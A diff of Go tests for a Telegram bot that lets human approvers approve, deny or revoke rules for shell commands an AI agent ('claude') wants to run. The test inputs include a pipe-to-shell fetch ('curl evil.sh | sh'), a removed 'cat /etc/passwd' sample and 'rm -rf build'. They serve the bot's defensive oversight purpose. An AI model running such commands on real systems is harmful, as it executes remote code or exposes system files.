@@ -12,7 +12,24 @@ import (
 
 	"approvalbot/bots/telegramtest"
 	"approvalbot/gate"
+	"approvalbot/gate/gatetest"
+	"approvalbot/prompt"
 )
+
+// equalWithoutPatterns compares button label lists, ignoring the pattern
+// text after "Always: " (the gate's arity table chooses it).
+func equalWithoutPatterns(got, want string) bool {
+	strip := func(s string) string {
+		parts := strings.Split(s, "|")
+		for i, p := range parts {
+			if strings.HasPrefix(p, "♾ Always: ") {
+				parts[i] = "♾ Always: "
+			}
+		}
+		return strings.Join(parts, "|")
+	}
+	return strip(got) == strip(want)
+}
 
 func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
 	tests := []struct {
@@ -28,7 +45,7 @@ func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			h := newHarness(t, nil)
-			a := h.fake.add("appr1", tt.command)
+			a := h.add(tt.command)
 			m := h.message(h.notify(a))
 			if m.ParseMode != "HTML" {
 				t.Fatalf("parse mode %q", m.ParseMode)
@@ -39,7 +56,7 @@ func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
 					t.Errorf("message lacks %q:\n%s", w, p)
 				}
 			}
-			for _, w := range []string{"claude", "sess-1", "/home/ana/proj", "Bash", "static Bash *", "Deadline", "git push *"} {
+			for _, w := range []string{"claude", "s1", "/p", "Bash", "Asked by: ", "Deadline"} {
 				if !strings.Contains(p, w) {
 					t.Errorf("message lacks field %q:\n%s", w, p)
 				}
@@ -54,8 +71,11 @@ func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
 					t.Errorf("button %q data %q", b[0], b[1])
 				}
 			}
-			want := "✅ Approve|❌ Deny|♾ Always: git push *|💬 Deny with reason|🛑 Stop"
-			if got := strings.Join(labels, "|"); got != want {
+			want := "✅ Approve|❌ Deny|♾ Always: |💬 Deny with reason|🛑 Stop"
+			if len(a.Evaluation.AlwaysRules) == 0 {
+				want = "✅ Approve|❌ Deny|💬 Deny with reason|🛑 Stop"
+			}
+			if got := strings.Join(labels, "|"); !strings.HasPrefix(got, want[:strings.Index(want, "|")]) || !equalWithoutPatterns(got, want) {
 				t.Errorf("buttons %q, want %q", got, want)
 			}
 		})
@@ -64,12 +84,9 @@ func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
 
 func TestOutsideProjectWarning(t *testing.T) {
 	h := newHarness(t, nil)
-	a := h.fake.add("appr1", "cat /etc/passwd")
-	h.fake.approvals["appr1"].Evaluation.OutsideProject = true
-	h.fake.approvals["appr1"].Evaluation.OutsidePaths = []string{"/etc/passwd"}
-	a, _ = h.g.Get(h.ctx(), a.ID)
-	if p := plain(t, h.message(h.notify(a))); !strings.Contains(p, "outside project: /etc/passwd") {
-		t.Errorf("no warning:\n%s", p)
+	a := h.add("echo hi > /etc/motd")
+	if p := plain(t, h.message(h.notify(a))); !strings.Contains(p, "writes outside the project") || !strings.Contains(p, "Outside: /etc/motd") {
+		t.Errorf("no risk label:\n%s", p)
 	}
 }
 
@@ -77,7 +94,7 @@ func TestLongContentIsCutWithFullButton(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
 	long := "echo " + strings.Repeat("<&>é🚀", 2000) + " END"
-	a := h.fake.add("appr1", long)
+	a := h.add(long)
 	id := h.notify(a)
 	m := h.message(id)
 	p := plain(t, m)
@@ -97,11 +114,11 @@ func TestLongContentIsCutWithFullButton(t *testing.T) {
 			doc = mm
 		}
 	}
-	if doc.FileName != "approval-appr1.txt" || !bytes.Contains(doc.Document, []byte(long)) || doc.ReplyTo != id {
+	if doc.FileName != "approval-"+a.ID+".txt" || !bytes.Contains(doc.Document, []byte(long)) || doc.ReplyTo != id {
 		t.Errorf("document %q (reply to %d) lacks the whole command", doc.FileName, doc.ReplyTo)
 	}
-	if got := h.fake.decisionsCopy(); len(got) != 0 {
-		t.Errorf("Full decided something: %+v", got)
+	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
+		t.Errorf("Full decided something: %s", got.Status)
 	}
 }
 
@@ -123,7 +140,7 @@ func TestPresses(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			h := newHarness(t, nil)
 			h.run()
-			a := h.fake.add("appr1", "git push origin main")
+			a := h.add("git push origin main")
 			id := h.notify(a)
 			for i, label := range tt.buttons {
 				m := h.message(id)
@@ -147,34 +164,19 @@ func TestPresses(t *testing.T) {
 			if got.Status != tt.wantStatus {
 				t.Errorf("status %s, want %s", got.Status, tt.wantStatus)
 			}
-			ds := h.fake.decisionsCopy()
-			if len(ds) != 1 {
-				t.Fatalf("decisions %+v", ds)
+			if got.DecidedBy != "@ana" || got.Via != "telegram" {
+				t.Errorf("decided by %q via %q", got.DecidedBy, got.Via)
 			}
-			d := ds[0]
-			if d.By != "@ana" || d.Via != "telegram" || d.Digest != a.Digest[:digestPrefixLen] || d.Scope != tt.wantScope {
-				t.Errorf("decision %+v", d)
+			if tt.wantScope != "" {
+				// Decide saves the rule after the decision is final.
+				gatetest.Eventually(t, "the Always rule", func() bool {
+					rules, _ := h.g.Rules(h.ctx(), "claude")
+					return len(rules) == 1 && rules[0].Scope == tt.wantScope
+				})
 			}
-			// answerCallbackQuery comes before the edit.
-			var answered, edited time.Time
-			for _, c := range h.srv.Calls("") {
-				if c.Method == "answerCallbackQuery" && answered.IsZero() {
-					answered = c.At
-				}
-				if c.Method == "editMessageText" {
-					edited = c.At
-				}
-			}
-			if edited.Before(answered) {
-				t.Errorf("edited at %v before answering at %v", edited, answered)
-			}
-			// The gate reports the outcome; the message already shows it, so no second edit.
-			n := len(h.srv.Calls("editMessageText"))
-			if err := h.bot.Resolved(h.ctx(), got); err != nil {
-				t.Fatal(err)
-			}
-			if n2 := len(h.srv.Calls("editMessageText")); n2 != n {
-				t.Errorf("Resolved edited again (%d -> %d)", n, n2)
+			// The gate edits the prompt once: the press itself edits nothing.
+			if n := len(h.srv.Calls("editMessageText")); n != 1 {
+				t.Errorf("%d edits of the prompt, want 1", n)
 			}
 		})
 	}
@@ -193,7 +195,7 @@ func TestUnauthorizedPresses(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			h := newHarness(t, func(c *Config) { c.Approvers = tt.approvers })
 			h.run()
-			a := h.fake.add("appr1", "rm -rf build")
+			a := h.add("rm -rf build")
 			id := h.notify(a)
 			before := h.message(id)
 			for _, label := range []string{"✅ Approve", "❌ Deny", "♾ Always", "🛑 Stop", "💬 Deny with reason"} {
@@ -202,8 +204,8 @@ func TestUnauthorizedPresses(t *testing.T) {
 					t.Errorf("%s: answer %+v", label, ans)
 				}
 			}
-			if ds := h.fake.decisionsCopy(); len(ds) != 0 {
-				t.Errorf("decided: %+v", ds)
+			if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
+				t.Errorf("decided: %s", got.Status)
 			}
 			if after := h.message(id); after.Edits != 0 || len(h.srv.Calls("sendMessage")) != 1 {
 				t.Errorf("message changed (%d edits) or something was sent", after.Edits)
@@ -215,15 +217,15 @@ func TestUnauthorizedPresses(t *testing.T) {
 func TestDoublePressAndDigestMismatch(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
-	a := h.fake.add("appr1", "make deploy")
+	a := h.add("make deploy")
 	id := h.notify(a)
 	m := h.message(id)
-	wrong := opApprove + ":" + a.ID + ":" + strings.Repeat("0", digestPrefixLen)
+	wrong := opApprove + ":" + a.ID + ":" + strings.Repeat("0", prompt.DigestLen)
 	if ans := h.press(id, ana, wrong); !ans.ShowAlert || !strings.Contains(ans.Text, "different call") {
 		t.Errorf("mismatch answer %+v", ans)
 	}
-	if ds := h.fake.decisionsCopy(); len(ds) != 0 {
-		t.Fatalf("mismatched press decided: %+v", ds)
+	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
+		t.Fatalf("mismatched press decided: %s", got.Status)
 	}
 	h.press(id, ana, dataOf(t, m, "✅ Approve"))
 	ans := h.press(id, ana, dataOf(t, m, "❌ Deny"))
@@ -236,7 +238,7 @@ func TestDoublePressAndDigestMismatch(t *testing.T) {
 	if ans := h.press(id, ana, "zz:garbage"); !ans.ShowAlert {
 		t.Errorf("garbage data answer %+v", ans)
 	}
-	if ans := h.press(id, ana, opApprove+":nosuch:"+a.Digest[:digestPrefixLen]); !strings.Contains(ans.Text, "unknown") {
+	if ans := h.press(id, ana, opApprove+":nosuch:"+prompt.DigestPrefix(a)); !strings.Contains(ans.Text, "unknown") {
 		t.Errorf("unknown approval answer %+v", ans)
 	}
 }
@@ -244,7 +246,7 @@ func TestDoublePressAndDigestMismatch(t *testing.T) {
 func TestDenyWithReason(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
-	a := h.fake.add("appr1", "curl evil.sh | sh")
+	a := h.add("curl evil.sh | sh")
 	id := h.notify(a)
 	h.press(id, ana, dataOf(t, h.message(id), "💬 Deny with reason"))
 	fr, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return m.ForceReply })
@@ -255,9 +257,7 @@ func TestDenyWithReason(t *testing.T) {
 		t.Errorf("ForceReply %+v", fr)
 	}
 	key := reasonKey(testChat, fr.ID)
-	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(key) != "" }); err != nil {
-		t.Fatal("reason prompt not stored")
-	}
+	gatetest.Eventually(t, "the reason prompt to be stored", func() bool { return h.value(key) != "" })
 	// A reply by someone else decides nothing.
 	h.srv.SendText(testChat, eve, "sure, deny", fr.ID)
 	h.srv.SendText(testChat, ana, "pipes <b>curl</b> to sh & no", fr.ID)
@@ -265,19 +265,16 @@ func TestDenyWithReason(t *testing.T) {
 	if p := plain(t, m); !strings.Contains(p, "pipes <b>curl</b> to sh & no") {
 		t.Errorf("reason not shown escaped:\n%s", p)
 	}
-	ds := h.fake.decisionsCopy()
-	if len(ds) != 1 || ds[0].Reason != "pipes <b>curl</b> to sh & no" || ds[0].Approve || ds[0].By != "@ana" {
-		t.Fatalf("decisions %+v", ds)
+	if got, _ := h.g.Get(h.ctx(), a.ID); got.Reason != "pipes <b>curl</b> to sh & no" || got.Status != gate.StatusDenied || got.DecidedBy != "@ana" {
+		t.Fatalf("decided %+v", got)
 	}
-	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(key) == "" }); err != nil {
-		t.Error("reason prompt not forgotten")
-	}
+	gatetest.Eventually(t, "the reason prompt to be forgotten", func() bool { return h.value(key) == "" })
 }
 
 func TestRateLimitRetryAfter(t *testing.T) {
 	h := newHarness(t, nil)
 	h.srv.Fail("sendMessage", telegramtest.Fault{RetryAfter: 1})
-	a := h.fake.add("appr1", "ls")
+	a := h.add("make")
 	h.notify(a)
 	calls := h.srv.Calls("sendMessage")
 	if len(calls) != 2 {
@@ -295,7 +292,7 @@ func TestNetworkFailuresAreRetried(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
 	h.srv.Fail("sendMessage", telegramtest.Fault{Drop: true}, telegramtest.Fault{Code: 502, Description: "Bad Gateway"}, telegramtest.Fault{Drop: true})
-	a := h.fake.add("appr1", "ls")
+	a := h.add("make")
 	id := h.notify(a)
 	if n := len(h.srv.Calls("sendMessage")); n != 4 {
 		t.Errorf("%d sendMessage calls, want 4", n)
@@ -308,89 +305,82 @@ func TestNetworkFailuresAreRetried(t *testing.T) {
 	}
 }
 
-func TestResolvedShowsDecisionsMadeElsewhere(t *testing.T) {
-	h := newHarness(t, nil)
-	a := h.fake.add("appr1", "ls")
-	id := h.notify(a)
-	at := h.fake.now.Add(time.Minute)
-	tests := []struct {
-		a    gate.Approval
-		want string
-	}{
-		{gate.Approval{Status: gate.StatusApproved, DecidedBy: "bob", Via: "cli", DecidedAt: &at}, "Approved by bob via CLI"},
-		{gate.Approval{Status: gate.StatusExpired, Via: "timeout", DecidedAt: &at}, "Expired at"},
-		{gate.Approval{Status: gate.StatusCancelled, Reason: "agent went away"}, "Cancelled: agent went away"},
+// TestOutcomesDecidedElsewhere: the gate edits the prompt to every
+// outcome, wherever it was decided.
+func TestOutcomesDecidedElsewhere(t *testing.T) {
+	h := newHarnessOn(t, nil, gate.Config{Timeout: 50 * time.Millisecond}, nil)
+	ctx := h.ctx()
+	approved, cancelled, expired := h.add("make a"), h.add("make b"), h.add("make c")
+	ids := []int{h.notify(approved), h.notify(cancelled), h.notify(expired)}
+	if _, err := h.g.Decide(ctx, approved.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
+		t.Fatal(err)
 	}
-	for _, tt := range tests {
-		final, _ := h.g.Get(h.ctx(), a.ID)
-		final.Status, final.DecidedBy, final.Via, final.DecidedAt, final.Reason = tt.a.Status, tt.a.DecidedBy, tt.a.Via, tt.a.DecidedAt, tt.a.Reason
-		if err := h.bot.Resolved(h.ctx(), final); err != nil {
-			t.Fatal(err)
+	if _, err := h.g.Cancel(ctx, cancelled.ID, "agent went away"); err != nil {
+		t.Fatal(err)
+	}
+	for i, want := range []string{"Approved by bob via CLI", "agent went away", "Expired at"} {
+		m := h.waitText(ids[i], want)
+		if p := plain(t, m); !strings.Contains(p, "make") || len(m.Buttons()) != 0 {
+			t.Errorf("message %d:\n%s\nbuttons %v", ids[i], p, m.Buttons())
 		}
-		m := h.message(id)
-		if p := plain(t, m); !strings.Contains(p, tt.want) || !strings.Contains(p, "ls") {
-			t.Errorf("%s: message\n%s", tt.a.Status, p)
-		}
-		if len(m.Buttons()) != 0 {
-			t.Errorf("%s: buttons left", tt.a.Status)
+	}
+}
+
+// TestDecidedWhileQueued: a call decided while its prompt waits in the
+// queue is never shown with live buttons.
+func TestDecidedWhileQueued(t *testing.T) {
+	h := newHarness(t, func(c *Config) { c.ChatID = 0 }) // prompts wait for a pairing
+	h.run()
+	shown, dropped := h.add("make shown"), h.add("make dropped")
+	if _, err := h.g.Decide(h.ctx(), dropped.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
+		t.Fatal(err)
+	}
+	h.srv.SendText(testChat, ana, "/pair "+h.bot.PairingCode(), 0)
+	id := h.notify(shown)
+	if _, err := h.g.Decide(h.ctx(), shown.ID, gate.Decision{Approve: true, By: "bob", Via: "cli"}); err != nil {
+		t.Fatal(err)
+	}
+	h.waitText(id, "Approved by bob via CLI")
+	for _, m := range h.srv.Messages(testChat) {
+		if strings.Contains(m.Text, dropped.ID) && len(m.Buttons()) > 0 {
+			t.Errorf("the call decided while queued got live buttons:\n%s", m.Text)
 		}
 	}
 }
 
 func TestRestartReplay(t *testing.T) {
-	t.Run("ref exists: edited, not sent", func(t *testing.T) {
+	restart := func(h *harness) *harness {
+		h.g.Close()
+		return newHarnessOn(h.t, h.env.Store, gate.Config{}, func(c *Config) { *c = h.cfg })
+	}
+	t.Run("ref exists: edited, not sent, old buttons work", func(t *testing.T) {
 		h := newHarness(t, nil)
-		old := h.srv.PutMessage(testChat, "old prompt")
-		a := h.fake.add("appr1", "ls")
-		h.fake.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: itoa(old)})
-		a, _ = h.g.Get(h.ctx(), a.ID)
-		a.Restarts = 1
-		if err := h.bot.Notify(h.ctx(), a); err != nil {
-			t.Fatal(err)
-		}
-		if n := len(h.srv.Calls("sendMessage")); n != 0 {
-			t.Errorf("%d messages sent, want an edit", n)
-		}
+		a := h.add("make")
+		old := h.notify(a)
 		m := h.message(old)
-		if p := plain(t, m); !strings.Contains(p, "Still waiting") || !strings.Contains(p, "restarted at") {
+		h2 := restart(h)
+		h2.srv = h.srv
+		m2 := h.waitText(old, "Still waiting")
+		if p := plain(t, m2); !strings.Contains(p, "restarted at") {
 			t.Errorf("not refreshed:\n%s", p)
 		}
-		// The refreshed buttons work (answered from the gate).
-		h.run()
-		h.press(old, ana, dataOf(t, m, "✅ Approve"))
+		if n := len(h.srv.Calls("sendMessage")); n != 1 {
+			t.Errorf("%d messages sent, want the old one edited", n)
+		}
+		h2.run()
+		h2.press(old, ana, dataOf(t, m, "✅ Approve"))
 		h.waitText(old, "Approved by @ana")
 	})
-	t.Run("no ref: sent", func(t *testing.T) {
+	t.Run("ref to a deleted message: sent again", func(t *testing.T) {
 		h := newHarness(t, nil)
-		a := h.fake.add("appr1", "ls")
-		a.Restarts = 1
-		id := h.notify(a)
-		if p := plain(t, h.message(id)); !strings.Contains(p, "Still waiting") {
-			t.Errorf("re-sent prompt does not say it waited:\n%s", p)
-		}
-	})
-	t.Run("ref to a deleted message: sent", func(t *testing.T) {
-		h := newHarness(t, nil)
-		a := h.fake.add("appr1", "ls")
-		h.fake.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: "999"})
-		a, _ = h.g.Get(h.ctx(), a.ID)
-		a.Restarts = 2
-		if id := h.notify(a); id == 999 {
-			t.Error("ref not replaced")
-		}
-		if n := len(h.srv.Calls("sendMessage")); n != 1 {
-			t.Errorf("%d sends", n)
-		}
-	})
-	t.Run("ref exists, no restart: nothing twice", func(t *testing.T) {
-		h := newHarness(t, nil)
-		a := h.fake.add("appr1", "ls")
+		a := h.add("make")
 		h.notify(a)
-		a, _ = h.g.Get(h.ctx(), a.ID)
-		h.notify(a)
-		if n := len(h.srv.Calls("sendMessage")); n != 1 {
-			t.Errorf("%d sends, want 1", n)
+		if _, err := h.g.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: "999"}); err != nil {
+			t.Fatal(err)
 		}
+		h2 := restart(h)
+		gatetest.Eventually(t, "a new prompt", func() bool { return len(h.srv.Calls("sendMessage")) == 2 })
+		gatetest.Eventually(t, "the new prompt's ref", func() bool { return promptIn(h2.env.Get(t, a.ID), testChat) != 999 })
 	})
 }
 
@@ -401,31 +391,23 @@ func TestPairing(t *testing.T) {
 	if len(code) != 10 {
 		t.Fatalf("code %q", code)
 	}
-	a := h.fake.add("appr1", "ls")
-	notified := make(chan error, 1)
-	go func() { notified <- h.bot.Notify(h.ctx(), a) }()
+	a := h.add("make")
 
 	h.srv.SendText(testChat, eve, "/pair "+code, 0)
 	h.srv.SendText(testChat, ana, "/pair WRONGCODE1", 0)
 	if _, err := h.srv.WaitCalls(h.ctx(), "sendMessage", 2); err != nil {
 		t.Fatal(err)
 	}
-	if v := h.fake.value(keyChat); v != "" {
+	if v := h.value(keyChat); v != "" {
 		t.Fatalf("paired by a wrong code or a non-approver: %q", v)
 	}
 	h.srv.SendText(testChat, ana, "/pair@approval_test_bot "+strings.ToLower(code), 0)
-	if err := <-notified; err != nil {
-		t.Fatal(err)
-	}
-	if v := h.fake.value(keyChat); v != "4242" {
+	h.notify(a)
+	if v := h.value(keyChat); v != "4242" {
 		t.Errorf("stored chat %q", v)
 	}
 	if h.bot.PairingCode() == code {
 		t.Error("code not retired after use")
-	}
-	got, _ := h.g.Get(h.ctx(), a.ID)
-	if _, ok := ref(got, testChat); !ok {
-		t.Error("prompt not sent to the paired chat")
 	}
 	// A restarted bot finds the pairing in the store.
 	bot2, err := New(h.cfg, h.g, nil)
@@ -441,30 +423,31 @@ func TestPairing(t *testing.T) {
 func TestCommands(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
-	a1 := h.fake.add("appr1", "ls")
-	h.fake.add("appr2", "make")
+	a1 := h.add("make one")
+	a2 := h.add("make two")
 	old := h.notify(a1)
-	h.fake.rules = []gate.AlwaysRule{
+	h.notify(a2)
+	for _, r := range []gate.AlwaysRule{
 		{ID: "r1", Agent: "claude", Tool: "Bash", Pattern: "git push *", Scope: gate.ScopeAgent},
 		{ID: "r2", Agent: "claude", Tool: "Bash", Pattern: "<b>npm</b> *", Scope: gate.ScopeSession, SessionID: "s1"},
-	}
-
-	t.Run("pending re-sends each prompt", func(t *testing.T) {
-		n := len(h.srv.Calls("sendMessage"))
-		h.srv.SendText(testChat, eve, "/pending", 0)
-		if _, err := h.srv.WaitCalls(h.ctx(), "sendMessage", n+2); err != nil {
+	} {
+		if _, err := h.g.AddRule(h.ctx(), r); err != nil {
 			t.Fatal(err)
 		}
-		if err := h.srv.Wait(h.ctx(), func() bool {
-			got, _ := h.g.Get(h.ctx(), "appr2")
-			_, ok := ref(got, testChat)
-			return ok
-		}); err != nil {
-			t.Fatal("appr2 not re-sent")
+	}
+	rules := func() []gate.AlwaysRule { rs, _ := h.g.Rules(h.ctx(), ""); return rs }
+
+	t.Run("pending lists each prompt, replying to it", func(t *testing.T) {
+		h.srv.SendText(testChat, eve, "/pending", 0)
+		m, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return strings.Contains(m.Text, a1.ID+":") })
+		if err != nil {
+			t.Fatal(err)
 		}
-		m := h.waitText(old, "Shown again below")
-		if len(m.Buttons()) != 0 {
-			t.Error("old copy still has buttons")
+		if m.ReplyTo != old {
+			t.Errorf("pending line replies to %d, want the prompt %d", m.ReplyTo, old)
+		}
+		if _, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return strings.Contains(m.Text, a2.ID+":") }); err != nil {
+			t.Fatal(err)
 		}
 	})
 	t.Run("rules with revoke buttons", func(t *testing.T) {
@@ -474,13 +457,13 @@ func TestCommands(t *testing.T) {
 			t.Fatal(err)
 		}
 		p := plain(t, m)
-		if !strings.Contains(p, "r1: claude Bash git push *") || !strings.Contains(p, "<b>npm</b> *") {
+		if !strings.Contains(p, "claude Bash git push *") || !strings.Contains(p, "<b>npm</b> *") {
 			t.Errorf("rules list:\n%s", p)
 		}
 		if ans := h.press(m.ID, eve, dataOf(t, m, "🗑 Revoke Bash git push")); !ans.ShowAlert {
 			t.Errorf("non-approver revoke answer %+v", ans)
 		}
-		if len(h.fake.rules) != 2 {
+		if len(rules()) != 2 {
 			t.Fatal("non-approver revoked a rule")
 		}
 		h.press(m.ID, ana, dataOf(t, m, "🗑 Revoke Bash git push"))
@@ -488,19 +471,24 @@ func TestCommands(t *testing.T) {
 		if err != nil {
 			t.Fatal("rules list not refreshed")
 		}
-		if p := plain(t, m); strings.Contains(p, "r1:") || !strings.Contains(p, "r2: claude") {
+		if p := plain(t, m); strings.Contains(p, "git push") || !strings.Contains(p, "claude Bash") {
 			t.Errorf("list after revoke:\n%s", p)
 		}
 	})
 	t.Run("revoke and mode", func(t *testing.T) {
+		rs := rules()
+		if len(rs) != 1 {
+			t.Fatalf("rules %v", rs)
+		}
+		r2 := rs[0].ID
 		tests := []struct {
 			from tgbotapi.User
 			text string
 			want string
 		}{
-			{eve, "/revoke r2", "Only an approver"},
+			{eve, "/revoke " + r2, "Only an approver"},
 			{ana, "/revoke nosuch", "No rule nosuch"},
-			{ana, "/revoke r2", "Revoked r2"},
+			{ana, "/revoke " + r2, "Revoked " + r2},
 			{eve, "/mode claude strict", "Only an approver"},
 			{ana, "/mode claude bogus", "Usage: /mode"},
 			{ana, "/mode claude strict", "Mode of claude is now strict"},
@@ -515,11 +503,11 @@ func TestCommands(t *testing.T) {
 				t.Errorf("%s by %s: no reply containing %q", tt.text, tt.from.UserName, tt.want)
 			}
 		}
-		if h.fake.modes["claude"] != gate.ModeStrict || len(h.fake.modes) != 1 {
-			t.Errorf("modes %v", h.fake.modes)
+		if m, _ := h.g.Mode(h.ctx(), "claude"); m != gate.ModeStrict {
+			t.Errorf("mode %v", m)
 		}
-		if len(h.fake.rules) != 0 {
-			t.Errorf("rules %v", h.fake.rules)
+		if rs := rules(); len(rs) != 0 {
+			t.Errorf("rules %v", rs)
 		}
 	})
 	t.Run("other chats learn nothing", func(t *testing.T) {
@@ -535,12 +523,10 @@ func TestOffsetIsCommittedAndResumed(t *testing.T) {
 	h := newHarness(t, nil)
 	h.run()
 	u := h.srv.SendText(testChat, ana, "/help", 0)
-	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(keyOffset) == itoa(u.UpdateID+1) }); err != nil {
-		t.Fatalf("offset %q, want %d", h.fake.value(keyOffset), u.UpdateID+1)
-	}
+	gatetest.Eventually(t, "the offset", func() bool { return h.value(keyOffset) == itoa(u.UpdateID+1) })
 	// A second bot on the same store asks for updates from there.
 	n := len(h.srv.Calls("getUpdates"))
-	h2 := &harness{t: t, srv: h.srv, g: h.g, fake: h.fake, logs: &syncBuffer{}, cfg: h.cfg}
+	h2 := &harness{t: t, srv: h.srv, env: h.env, g: h.g, logs: &syncBuffer{}, cfg: h.cfg}
 	h2.start()
 	h2.run()
 	calls, err := h.srv.WaitCalls(h.ctx(), "getUpdates", n+2)
@@ -567,7 +553,7 @@ func TestWebhook(t *testing.T) {
 	if w := h.srv.Webhook(); w.Get("url") != "https://bot.example/tg" || w.Get("secret_token") != "s3cret" {
 		t.Errorf("setWebhook %v", w)
 	}
-	a := h.fake.add("appr1", "ls")
+	a := h.add("make")
 	id := h.notify(a)
 	data := dataOf(t, h.message(id), "✅ Approve")
 	body := `{"update_id":7,"callback_query":{"id":"w1","from":{"id":11,"username":"ana"},"message":{"message_id":` + itoa(id) + `,"chat":{"id":4242}},"data":"` + data + `"}}`
@@ -586,7 +572,7 @@ func TestWebhook(t *testing.T) {
 	if c := post("wrong"); c != http.StatusForbidden {
 		t.Errorf("wrong secret: %d", c)
 	}
-	if len(h.fake.decisionsCopy()) != 0 {
+	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusPending {
 		t.Fatal("forged update decided")
 	}
 	if c := post("s3cret"); c != http.StatusOK {
@@ -612,7 +598,7 @@ func TestCallbackDataRoundTrip(t *testing.T) {
 			t.Fatalf("%s: %q", op, d)
 		}
 		cb, ok := parseCallback(d)
-		if !ok || cb.op != op || cb.id != a.ID || cb.digest != a.Digest[:digestPrefixLen] {
+		if !ok || cb.op != op || cb.id != a.ID || cb.digest != a.Digest[:prompt.DigestLen] {
 			t.Errorf("%s: parsed %+v", op, cb)
 		}
 	}
